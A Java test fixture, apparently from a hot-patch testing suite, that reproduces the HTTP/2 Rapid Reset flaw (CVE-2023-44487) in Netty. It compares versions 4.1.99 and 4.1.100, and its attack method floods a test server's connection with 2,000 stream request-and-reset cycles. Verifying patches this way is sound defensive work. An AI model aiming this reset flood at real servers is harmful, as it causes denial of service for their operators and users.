package dev.hotpatch.testdata.cve;

import java.io.IOException;

/** A client opens streams and resets them at once, for ever: much work for the server, little for the client. */
public final class NettyRapidReset implements Vulnerability {
    /** Several times what the fixed release takes in its time window. */
    private static final int RESETS = 2_000;

    @Override
    public String cve() {
        return "CVE-2023-44487";
    }

    @Override
    public VictimProgram program() {
        return VictimProgram.ofNetty(
                "Http2Main", "netty-codec-http2", "4.1.99.Final", "4.1.100.Final", "netty-codec-http");
    }

    @Override
    public Attempt attack(RunningVictim victim) throws IOException {
        try (Http2Connection connection = Http2Connection.open(victim.port())) {
            for (int i = 0; i < RESETS; i++) {
                connection.requestAndReset();
            }
            connection.ping();
            return connection
                    .awaitGoAwayOrPong()
                    .map(error -> new Attempt(false, "GOAWAY, error " + error))
                    .orElseGet(() -> new Attempt(true, RESETS + " resets taken, then the ping was answered"));
        }
    }

    @Override
    public String use(RunningVictim victim) throws IOException {
        try (Http2Connection connection = Http2Connection.open(victim.port())) {
            return connection.request();
        }
    }
}
